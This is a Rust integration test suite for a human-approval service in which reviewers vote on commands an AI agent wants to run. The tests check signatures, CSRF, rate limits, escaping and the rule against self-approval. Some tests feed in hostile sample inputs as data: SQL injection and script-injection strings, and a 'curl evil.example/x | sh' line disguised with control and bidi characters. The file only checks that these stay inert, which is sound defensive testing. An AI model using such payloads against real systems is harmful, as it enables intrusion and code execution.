//! The approver service end to end, against SQLite and a real PostgreSQL:
//! real guard processes ask over the webhook protocol, reviewers answer
//! through the CLI, the JSON API and the page's forms.

mod approver_harness;
mod common;

use std::time::{Duration, Instant};

use approver_harness::{agent, join, request, stderr, Service, PASSWORD};
use serde_json::{json, Value};

const TWO_FOR_AWS: &str = "approvals_required:\n  - {rule: cloud.aws, count: 2}\n";

/// Each test runs once per backend.
macro_rules! both {
    ($($name:ident),* $(,)?) => {
        mod sqlite {
            $( #[test] fn $name() { super::$name("sqlite") } )*
        }
        mod postgres {
            $( #[test] fn $name() { super::$name(&super::approver_harness::postgres()) } )*
        }
    };
}

both!(
    a_reviewed_command_runs_once_approved,
    n_of_m_needs_distinct_reviewers_and_never_the_agent,
    one_deny_ends_the_request_with_its_reason,
    an_expired_request_is_denied_and_cannot_be_approved,
    bad_requests_are_refused_and_unknown_fields_kept,
    sql_and_html_in_a_command_are_data,
    forms_without_the_csrf_token_are_refused,
    a_crash_loses_no_pending_request,
    allow_for_session_is_remembered_by_the_approver,
    history_filters,
);

fn a_reviewed_command_runs_once_approved(db: &str) {
    let s = Service::start(db, "");
    s.add_reviewer("ann");
    let guard = s.ask("aws s3 ls s3://reports");
    let pending = s.wait_pending("ann", 1);
    let r = &pending[0];
    assert_eq!(r["command"], "aws s3 ls s3://reports");
    assert_eq!(r["user"], agent());
    assert_eq!(r["approvals"], 0);
    assert_eq!(r["required"], 1);
    // Every row has the keys the shipped schema requires.
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string(common::root().join("schemas/approver-api.schema.json")).unwrap(),
    )
    .unwrap();
    for key in schema["$defs"]["Request"]["required"].as_array().unwrap() {
        let key = key.as_str().unwrap();
        assert!(r.get(key).is_some(), "list --json lacks {key}: {r}");
    }
    assert!(s.aws_runs().is_empty(), "ran before approval");
    let id = r["id"].as_str().unwrap();
    let out = s.cli("ann", &["approve", id, "--reason", "ticket OPS-1"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let done = join(guard);
    assert!(done.status.success(), "guard: {}", stderr(&done));
    assert_eq!(s.aws_runs(), vec!["s3 ls s3://reports"]);
    let record = s.guard_audit().into_iter().last().unwrap();
    assert_eq!(record["approval"]["channel"], "webhook");
    assert_eq!(record["approval"]["approver"], "ann");
    // The approver's own log says who approved what, and verifies.
    let log = s.verify_audit();
    assert!(
        log.contains(r#""event":"vote""#) && log.contains(r#""reviewer":"ann""#),
        "{log}"
    );
    let shown = s.cli("ann", &["show", id]);
    let shown: Value = serde_json::from_slice(&shown.stdout).unwrap();
    assert_eq!(shown["state"], "allow");
    assert_eq!(shown["votes"][0]["reason"], "ticket OPS-1");
}

fn n_of_m_needs_distinct_reviewers_and_never_the_agent(db: &str) {
    let s = Service::start(db, TWO_FOR_AWS);
    for name in ["ann", "bob", &agent()] {
        s.add_reviewer(name);
    }
    let guard = s.ask("aws iam list-users");
    let id = s.wait_pending("ann", 1)[0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    // (reviewer, succeeds, what the refusal says)
    let table: [(&str, bool, &str); 4] = [
        ("ann", true, ""),
        ("ann", false, "already approved"),
        (&agent(), false, "no self-approval"),
        ("bob", true, ""),
    ];
    let mut approvals = 0;
    for (who, ok, why) in table {
        let out = s.cli(who, &["approve", &id]);
        assert_eq!(out.status.success(), ok, "{who}: {}", stderr(&out));
        if ok {
            approvals += 1;
        } else {
            let err = stderr(&out);
            assert_eq!(err.lines().count(), 1, "{err}");
            assert!(
                err.starts_with("guard: ") && err.contains(why),
                "{who}: {err}"
            );
        }
        if approvals < 2 {
            assert!(s.aws_runs().is_empty(), "ran after {approvals} approval(s)");
            let shown: Value =
                serde_json::from_slice(&s.cli("ann", &["show", &id]).stdout).unwrap();
            assert_eq!(shown["state"], "pending");
            assert_eq!(shown["approvals"], approvals);
        }
    }
    let done = join(guard);
    assert!(done.status.success(), "{}", stderr(&done));
    assert_eq!(s.aws_runs().len(), 1);
    let record = s.guard_audit().into_iter().last().unwrap();
    assert_eq!(record["approval"]["approver"], "ann+bob");
}

fn one_deny_ends_the_request_with_its_reason(db: &str) {
    let s = Service::start(db, TWO_FOR_AWS);
    s.add_reviewer("ann");
    s.add_reviewer("bob");
    let guard = s.ask("aws s3 rb s3://prod-logs");
    let id = s.wait_pending("ann", 1)[0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(s.cli("ann", &["approve", &id]).status.success());
    let out = s.cli("bob", &["deny", &id, "--reason", "change freeze"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let done = join(guard);
    assert_eq!(done.status.code(), Some(126), "{}", stderr(&done));
    assert!(stderr(&done).contains("change freeze"), "{}", stderr(&done));
    assert!(s.aws_runs().is_empty());
    // Decided is decided.
    let late = s.cli("ann", &["approve", &id]);
    assert!(!late.status.success());
    assert!(
        stderr(&late).contains("already decided"),
        "{}",
        stderr(&late)
    );
}

fn an_expired_request_is_denied_and_cannot_be_approved(db: &str) {
    let s = Service::start(db, "");
    s.write_guard_config(2);
    s.add_reviewer("ann");
    let guard = s.ask("aws s3 ls");
    let id = s.wait_pending("ann", 1)[0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let done = join(guard);
    assert_eq!(done.status.code(), Some(126));
    // The approver denies it on its own at expires_at.
    let until = Instant::now() + Duration::from_secs(20);
    loop {
        let shown: Value = serde_json::from_slice(&s.cli("ann", &["show", &id]).stdout).unwrap();
        if shown["state"] == "deny" {
            assert!(
                shown["reason"].as_str().unwrap().contains("expired"),
                "{shown}"
            );
            break;
        }
        assert!(Instant::now() < until, "never expired: {shown}");
        std::thread::sleep(Duration::from_millis(200));
    }
    let late = s.cli("ann", &["approve", &id]);
    assert!(!late.status.success());
    assert_eq!(stderr(&late).lines().count(), 1);
    assert!(s.aws_runs().is_empty());
}

fn bad_requests_are_refused_and_unknown_fields_kept(db: &str) {
    let s = Service::start(db, "");
    s.add_reviewer("ann");
    let body = serde_json::to_vec(&request("a1b2c3", "aws s3 ls", "cloud.aws", None)).unwrap();
    let sig = common::signature(approver_harness::SECRET.as_bytes(), &body);
    let big = vec![b' '; 300 * 1024];
    let big_sig = common::signature(approver_harness::SECRET.as_bytes(), &big);
    let table: Vec<(&str, Vec<u8>, Option<String>, u16)> = vec![
        ("unsigned", body.clone(), None, 401),
        (
            "mis-signed",
            body.clone(),
            Some(common::signature(b"wrong", &body)),
            401,
        ),
        (
            "garbage signature",
            body.clone(),
            Some("sha256=zz".into()),
            401,
        ),
        ("oversized", big, Some(big_sig), 413),
        (
            "not JSON",
            b"{nope".to_vec(),
            Some(common::signature(
                approver_harness::SECRET.as_bytes(),
                b"{nope",
            )),
            400,
        ),
    ];
    for (what, bytes, signature, want) in table {
        let (got, _) = s.post(&bytes, signature);
        assert_eq!(got, want, "{what}");
    }
    for (what, patch) in [
        ("no id", json!({"id": null})),
        ("id with a slash", json!({"id": "../etc"})),
        ("no command", json!({"command": null})),
        ("bad expires_at", json!({"expires_at": "tomorrow"})),
    ] {
        let mut b = request("d4e5f6", "aws s3 ls", "cloud.aws", None);
        for (k, v) in patch.as_object().unwrap() {
            b[k] = v.clone();
        }
        assert_eq!(s.post_signed(&b).0, 400, "{what}");
    }
    assert!(
        s.list("ann", true).is_empty(),
        "a refused request was stored"
    );
    // Refusals of bad signatures are logged.
    assert!(s.verify_audit().contains(r#""event":"rejected""#));
    let mut b = request("a1b2c3", "aws s3 ls", "cloud.aws", None);
    b["protocol_v2"] = json!({"hint": "kept"});
    assert_eq!(s.post_signed(&b).0, 202);
    assert_eq!(
        s.post(
            &serde_json::to_vec(&b).unwrap(),
            Some(common::signature(
                approver_harness::SECRET.as_bytes(),
                &serde_json::to_vec(&b).unwrap()
            ))
        )
        .0,
        202,
        "a retry of the same id"
    );
    let shown: Value = serde_json::from_slice(&s.cli("ann", &["show", "a1b2c3"]).stdout).unwrap();
    assert_eq!(shown["request"]["protocol_v2"]["hint"], "kept");
    assert_eq!(s.list("ann", true).len(), 1);
    let _ = sig;
}

fn page(s: &Service, token: &str, path: &str) -> (u16, String) {
    let resp = approver_harness::http()
        .get(format!("{}{path}", s.url()))
        .header("Cookie", format!("guard_login={token}"))
        .send()
        .unwrap();
    (resp.status().as_u16(), resp.text().unwrap())
}

fn sql_and_html_in_a_command_are_data(db: &str) {
    let s = Service::start(db, "");
    s.add_reviewer("ann");
    let evil = "aws s3 ls '; DROP TABLE requests; -- <script>alert(1)</script> <img src=x onerror=alert(2)>";
    assert_eq!(
        s.post_signed(&request("e1", evil, "cloud.aws", Some("s-1")))
            .0,
        202
    );
    let token = s.token("ann");
    let (status, html) = page(&s, &token, "/");
    assert_eq!(status, 200);
    assert!(
        !html.contains("<script>alert(1)"),
        "markup from a command line: {html}"
    );
    assert!(!html.contains("<img src=x"), "markup from a command line");
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "{html}"
    );
    assert!(html.contains("rotate the staging keys"), "purpose missing");
    // The table is still there, and so is the request, verbatim.
    let rows = s.list("ann", true);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["command"], evil);
    // Filters are bound too.
    let hist = s.cli("ann", &["list", "--json", "--all"]);
    assert!(hist.status.success());
    let (status, _) = page(
        &s,
        &token,
        "/history?session=%27%20OR%201%3D1%20--&rule=%25",
    );
    assert_eq!(status, 200);
}

fn forms_without_the_csrf_token_are_refused(db: &str) {
    let s = Service::start(db, "");
    s.add_reviewer("ann");
    assert_eq!(
        s.post_signed(&request("c1", "aws s3 ls", "cloud.aws", None))
            .0,
        202
    );
    let token = s.token("ann");
    let http = approver_harness::http_builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let (_, html) = page(&s, &token, "/");
    let csrf = html
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .and_then(|t| t.split('"').next())
        .expect("a csrf field on the page")
        .to_string();
    let post = |form: &str| {
        http.post(format!("{}/requests/c1/decide", s.url()))
            .header("Cookie", format!("guard_login={token}"))
            .header("Content-Type", "application/x-www-form-urlencoded")
            .body(form.to_string())
            .send()
            .unwrap()
            .status()
            .as_u16()
    };
    assert_eq!(post("decision=allow&scope=once"), 403, "no token");
    assert_eq!(
        post("decision=allow&scope=once&csrf=0000"),
        403,
        "wrong token"
    );
    let shown: Value = serde_json::from_slice(&s.cli("ann", &["show", "c1"]).stdout).unwrap();
    assert_eq!(shown["state"], "pending", "a forged form counted");
    assert_eq!(post(&format!("decision=allow&scope=once&csrf={csrf}")), 303);
    let shown: Value = serde_json::from_slice(&s.cli("ann", &["show", "c1"]).stdout).unwrap();
    assert_eq!(shown["state"], "allow");
    // The login form is protected too.
    let login = http
        .post(format!("{}/login", s.url()))
        .header("Content-Type", "application/x-www-form-urlencoded")
        .body(format!("user=ann&password={}", PASSWORD.replace(' ', "+")))
        .send()
        .unwrap();
    assert_eq!(login.status().as_u16(), 403);
    // The API takes no cookies, so a cross-site form cannot use it.
    let api = http
        .post(format!("{}/api/v1/requests/c1/decision", s.url()))
        .header("Cookie", format!("guard_login={token}"))
        .json(&json!({"decision": "deny", "reason": "x"}))
        .send()
        .unwrap();
    assert_eq!(api.status().as_u16(), 401);
}

fn a_crash_loses_no_pending_request(db: &str) {
    let mut s = Service::start(db, "");
    s.add_reviewer("ann");
    let first = s.ask("aws s3 ls s3://one");
    s.wait_pending("ann", 1);
    let second = s.ask("aws s3 ls s3://two");
    let ids: Vec<String> = s
        .wait_pending("ann", 2)
        .iter()
        .map(|r| r["id"].as_str().unwrap().to_string())
        .collect();
    s.restart();
    let after: Vec<String> = s
        .list("ann", false)
        .iter()
        .map(|r| r["id"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(after, ids, "pending requests lost in the crash");
    for id in &ids {
        assert!(s.cli("ann", &["approve", id]).status.success());
    }
    for g in [first, second] {
        let done = join(g);
        assert!(done.status.success(), "{}", stderr(&done));
    }
    assert_eq!(s.aws_runs().len(), 2);
}

fn allow_for_session_is_remembered_by_the_approver(db: &str) {
    let s = Service::start(db, "");
    s.add_reviewer("ann");
    assert_eq!(
        s.post_signed(&request("f1", "aws s3 ls", "cloud.aws", Some("sess9")))
            .0,
        202
    );
    let out = s.cli("ann", &["approve", "f1", "--scope", "session"]);
    assert!(out.status.success(), "{}", stderr(&out));
    // The same commands in the same session: answered at once.
    let (status, answer) = s.post_signed(&request("f2", "aws s3 ls", "cloud.aws", Some("sess9")));
    assert_eq!(status, 200);
    assert_eq!(answer["decision"], "allow");
    assert_eq!(answer["id"], "f2");
    assert_eq!(answer["scope"], "session");
    // Another session, other commands, another account, host or
    // directory, or another boundary: asked again.
    assert_eq!(
        s.post_signed(&request("f3", "aws s3 ls", "cloud.aws", Some("sess8")))
            .0,
        202
    );
    assert_eq!(
        s.post_signed(&request(
            "f4",
            "aws s3 rm s3://x",
            "cloud.aws",
            Some("sess9")
        ))
        .0,
        202
    );
    let variants: [(&str, &str, Value); 4] = [
        ("f5", "user", json!("mallory")),
        ("f6", "host", json!("other-host")),
        ("f7", "cwd", json!("/srv/prod")),
        (
            "f8",
            "targets",
            json!([{"boundary": "prod", "signal": "aws profile prod"}]),
        ),
    ];
    for (id, field, value) in variants {
        let mut b = request(id, "aws s3 ls", "cloud.aws", Some("sess9"));
        b[field] = value;
        assert_eq!(
            s.post_signed(&b).0,
            202,
            "a session grant answered a request with another {field}"
        );
    }
}

fn history_filters(db: &str) {
    let s = Service::start(db, "");
    s.add_reviewer("ann");
    s.add_reviewer("bob");
    for (id, rule, sess) in [
        ("h1", "cloud.aws", "s1"),
        ("h2", "kube.kubectl", "s1"),
        ("h3", "cloud.aws", "s2"),
    ] {
        assert_eq!(
            s.post_signed(&request(id, "aws s3 ls", rule, Some(sess))).0,
            202
        );
    }
    assert!(s.cli("ann", &["approve", "h1"]).status.success());
    assert!(s
        .cli("bob", &["deny", "h2", "--reason", "no"])
        .status
        .success());
    let token = s.token("ann");
    let http = approver_harness::http();
    let ids = |q: &str| -> Vec<String> {
        let v: Value = http
            .get(format!("{}/api/v1/requests?{q}", s.url()))
            .bearer_auth(&token)
            .send()
            .unwrap()
            .json()
            .unwrap();
        let mut ids: Vec<String> = v
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["id"].as_str().unwrap().to_string())
            .collect();
        ids.sort();
        ids
    };
    let table: [(&str, &[&str]); 7] = [
        ("state=any", &["h1", "h2", "h3"]),
        ("state=pending", &["h3"]),
        ("state=deny", &["h2"]),
        ("session=s1", &["h1", "h2"]),
        ("rule=cloud.aws", &["h1", "h3"]),
        ("reviewer=bob", &["h2"]),
        ("since=1h&rule=cloud", &[]),
    ];
    for (q, want) in table {
        assert_eq!(ids(q), want, "{q}");
    }
    let (status, html) = page(&s, &token, "/sessions/s1");
    assert_eq!(status, 200);
    let (a, b) = (html.find("h1").unwrap(), html.find("h2").unwrap());
    assert!(a < b, "timeline out of order");
    assert!(html.contains("rotate the staging keys"));
}

/// A failed sign-in is counted; past the limit even the right password
/// is refused for a while.
#[test]
fn sign_ins_are_rate_limited() {
    let s = Service::start("sqlite", "");
    s.add_reviewer("ann");
    for _ in 0..5 {
        let out = s.cli_with("ann", "wrong password", &["list"]);
        assert!(!out.status.success());
        assert!(
            stderr(&out).contains("wrong name or password"),
            "{}",
            stderr(&out)
        );
    }
    let out = s.cli("ann", &["list"]);
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("too many failed sign-ins"),
        "{}",
        stderr(&out)
    );
}

/// Two approver processes share one PostgreSQL: guard polls one, the
/// decision is made on the other, and the poll hears it (LISTEN/NOTIFY).
#[test]
fn two_approvers_share_postgres() {
    let a = Service::start(&approver_harness::postgres(), "");
    let b = a.sibling();
    a.add_reviewer("ann");
    let guard = a.ask("aws s3 ls s3://shared");
    let id = b.wait_pending("ann", 1)[0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let out = b.cli("ann", &["approve", &id]);
    assert!(out.status.success(), "{}", stderr(&out));
    let done = join(guard);
    assert!(done.status.success(), "{}", stderr(&done));
    assert_eq!(a.aws_runs(), vec!["s3 ls s3://shared"]);
}

/// A notification names the command, the purpose and a link; each target
/// gets one per request, and a target that is down holds nothing up.
#[test]
fn notifications_name_the_command() {
    let server = tiny_http::Server::http("127.0.0.1:0").unwrap();
    let port = server.server_addr().to_ip().unwrap().port();
    let config = format!(
        "public_url: https://approver.example\nnotify:\n  - {{url: http://127.0.0.1:{port}/generic}}\n  - {{url: http://127.0.0.1:{port}/slack, format: slack}}\n  - {{url: http://127.0.0.1:{}/down}}\n",
        common::free_port()
    );
    let s = Service::start("sqlite", &config);
    s.add_reviewer("ann");
    assert_eq!(
        s.post_signed(&request(
            "n1",
            "aws s3 ls s3://<b>",
            "cloud.aws",
            Some("s7")
        ))
        .0,
        202
    );
    // Decided while the notifications are still in flight.
    assert!(s.cli("ann", &["approve", "n1"]).status.success());
    let mut got = std::collections::BTreeMap::new();
    while got.len() < 2 {
        let mut req = server
            .recv_timeout(Duration::from_secs(20))
            .unwrap()
            .expect("a notification");
        let mut body = String::new();
        req.as_reader().read_to_string(&mut body).unwrap();
        got.insert(
            req.url().to_string(),
            serde_json::from_str::<Value>(&body).unwrap(),
        );
        req.respond(tiny_http::Response::empty(200)).unwrap();
    }
    let generic = &got["/generic"];
    assert_eq!(generic["command"], "aws s3 ls s3://<b>");
    assert_eq!(generic["purpose"], "rotate the staging keys");
    assert_eq!(generic["url"], "https://approver.example/requests/n1");
    let slack = got["/slack"]["text"].as_str().unwrap();
    assert!(slack.contains("aws s3 ls s3://&lt;b&gt;"), "{slack}");
    assert!(slack.contains("rotate the staging keys"), "{slack}");
    assert!(
        slack.contains("<https://approver.example/requests/n1|"),
        "{slack}"
    );
    // Once per request: nothing more arrives.
    assert!(server
        .recv_timeout(Duration::from_secs(2))
        .unwrap()
        .is_none());
}

/// A database that is down denies on guard's side once its timeout
/// passes, and nothing is stored half-decided.
#[test]
fn a_database_that_is_down_denies() {
    let db = approver_harness::postgres();
    let name = db.rsplit('/').next().unwrap().to_string();
    let port = approver_harness::postgres_port();
    let s = Service::start(&db, "");
    s.write_guard_config(3);
    s.add_reviewer("ann");
    let cut = format!(
        "ALTER DATABASE {name} WITH ALLOW_CONNECTIONS false; \
         SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity WHERE datname = '{name}'"
    );
    approver_harness::psql(port, "postgres", &cut).unwrap();
    let done = join(s.ask("aws s3 ls"));
    assert_eq!(done.status.code(), Some(126));
    let err = stderr(&done);
    assert!(
        err.starts_with("guard: ") && err.contains("approver"),
        "{err}"
    );
    assert!(s.aws_runs().is_empty());
    approver_harness::psql(
        port,
        "postgres",
        &format!("ALTER DATABASE {name} WITH ALLOW_CONNECTIONS true"),
    )
    .unwrap();
    // Back up: the approver serves again, and holds nothing from the outage.
    let until = Instant::now() + Duration::from_secs(30);
    loop {
        let out = s.cli("ann", &["list", "--json", "--all"]);
        if out.status.success() {
            let rows: Value = serde_json::from_slice(&out.stdout).unwrap();
            assert!(
                rows.as_array()
                    .unwrap()
                    .iter()
                    .all(|r| r["state"] != "allow"),
                "{rows}"
            );
            break;
        }
        assert!(Instant::now() < until, "never recovered: {}", stderr(&out));
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// Behind an SSO proxy the reviewer's name comes from a header, but only
/// on a connection from a configured proxy, and only for a reviewer.
#[test]
fn the_proxy_header_counts_only_from_a_proxy_and_for_a_reviewer() {
    let http = approver_harness::http();
    let list = |s: &Service, who: &str| {
        http.get(format!("{}/api/v1/requests", s.url()))
            .header("X-Remote-User", who)
            .send()
            .unwrap()
            .status()
            .as_u16()
    };
    // (config, reviewer named in the header, status)
    let table = [
        ("", "carol", 401),
        (
            "trusted_header: X-Remote-User\ntrusted_proxies: [10.9.9.9]\n",
            "carol",
            401,
        ),
        (
            "trusted_header: X-Remote-User\ntrusted_proxies: [127.0.0.1]\n",
            "ghost",
            401,
        ),
        (
            "trusted_header: X-Remote-User\ntrusted_proxies: [127.0.0.1]\n",
            "carol",
            200,
        ),
    ];
    for (config, who, want) in table {
        let s = Service::start("sqlite", config);
        s.add_reviewer("carol");
        assert_eq!(list(&s, who), want, "config {config:?}, header {who}");
    }
    // And the header's reviewer is still not the agent, in any spelling.
    let s = Service::start(
        "sqlite",
        "trusted_header: X-Remote-User\ntrusted_proxies: [127.0.0.1]\n",
    );
    for name in ["AGENT7", "carol"] {
        s.add_reviewer(name);
    }
    assert_eq!(
        s.post_signed(&request("p1", "aws s3 ls", "cloud.aws", None))
            .0,
        202
    );
    let vote = |who: &str| {
        http.post(format!("{}/api/v1/requests/p1/decision", s.url()))
            .header("X-Remote-User", who)
            .json(&json!({"decision": "allow"}))
            .send()
            .unwrap()
            .status()
            .as_u16()
    };
    assert_eq!(vote("AGENT7"), 403);
    assert_eq!(vote("carol"), 200);
}

/// A trusted header with no proxies to trust it from is a config error.
#[test]
fn a_trusted_header_needs_its_proxies() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a.yaml"), "trusted_header: X-Remote-User\n").unwrap();
    std::fs::write(dir.path().join("secret"), "s3cret\n").unwrap();
    std::fs::set_permissions(
        dir.path().join("secret"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    let out = std::process::Command::new(common::bin())
        .args(["approver", "serve", "--listen", "127.0.0.1:0", "--database"])
        .arg(format!("sqlite:{}", dir.path().join("db").display()))
        .arg("--secret-file")
        .arg(dir.path().join("secret"))
        .arg("--config")
        .arg(dir.path().join("a.yaml"))
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(
        err.starts_with("guard: ") && err.contains("trusted_proxies"),
        "{err}"
    );
}

/// Parallel guesses cannot outrun the sign-in limit: at most LIMIT of
/// them are even checked.
#[test]
fn parallel_guesses_share_one_limit() {
    let s = std::sync::Arc::new(Service::start("sqlite", ""));
    s.add_reviewer("ann");
    let guesses: Vec<_> = (0..16)
        .map(|i| {
            let s = std::sync::Arc::clone(&s);
            std::thread::spawn(move || stderr(&s.cli_with("ann", &format!("guess {i}"), &["list"])))
        })
        .collect();
    let answers: Vec<String> = guesses.into_iter().map(|g| g.join().unwrap()).collect();
    let checked = answers
        .iter()
        .filter(|a| a.contains("wrong name or password"))
        .count();
    let limited = answers
        .iter()
        .filter(|a| a.contains("too many failed sign-ins"))
        .count();
    assert_eq!(checked + limited, 16, "{answers:?}");
    assert!(checked <= 5, "{checked} guesses were checked: {answers:?}");
}

/// What a reviewer reads cannot hide what the command is: control and
/// bidi characters are shown escaped, in the CLI and on the page, and the
/// page runs no inline code.
#[test]
fn a_command_cannot_disguise_itself() {
    let s = Service::start("sqlite", "");
    s.add_reviewer("ann");
    let sneaky = "curl evil.example/x | sh\r\u{1b}[2Kls -la \u{202e}gpj.exe";
    assert_eq!(
        s.post_signed(&request("q1", sneaky, "cloud.aws", None)).0,
        202
    );
    let out = s.cli("ann", &["list"]);
    let table = String::from_utf8(out.stdout).unwrap();
    assert!(
        !table.contains('\r') && !table.contains('\u{1b}') && !table.contains('\u{202e}'),
        "{table:?}"
    );
    assert!(
        table.contains(r"sh\u{d}\u{1b}[2Kls -la \u{202e}gpj.exe"),
        "{table:?}"
    );
    let token = s.token("ann");
    let resp = approver_harness::http()
        .get(format!("{}/", s.url()))
        .header("Cookie", format!("guard_login={token}"))
        .send()
        .unwrap();
    let csp = resp.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    assert!(
        csp.contains("script-src 'self'") && csp.contains("frame-ancestors 'none'"),
        "{csp}"
    );
    assert_eq!(resp.headers()["x-frame-options"], "DENY");
    let html = resp.text().unwrap();
    assert!(
        !html.contains('\u{202e}') && !html.contains('\u{1b}'),
        "raw control characters on the page"
    );
    assert!(html.contains(r"\u{202e}gpj.exe"), "{html}");
    assert!(!html.contains("<script>"), "inline script on the page");
}

/// A session grant made by one reviewer does not answer a request that
/// needs two.
#[test]
fn a_session_grant_is_no_stronger_than_its_reviewers() {
    let s = Service::start(
        "sqlite",
        "approvals_required:\n  - {rule: kube.kubectl, count: 2}\n",
    );
    s.add_reviewer("ann");
    assert_eq!(
        s.post_signed(&request("g1", "kubectl get pods", "cloud.aws", Some("sx")))
            .0,
        202
    );
    assert!(s
        .cli("ann", &["approve", "g1", "--scope", "session"])
        .status
        .success());
    // Same session and commands, but now a rule that needs two reviewers.
    assert_eq!(
        s.post_signed(&request(
            "g2",
            "kubectl get pods",
            "kube.kubectl",
            Some("sx")
        ))
        .0,
        202
    );
    assert_eq!(
        s.post_signed(&request("g3", "kubectl get pods", "cloud.aws", Some("sx")))
            .0,
        200
    );
}
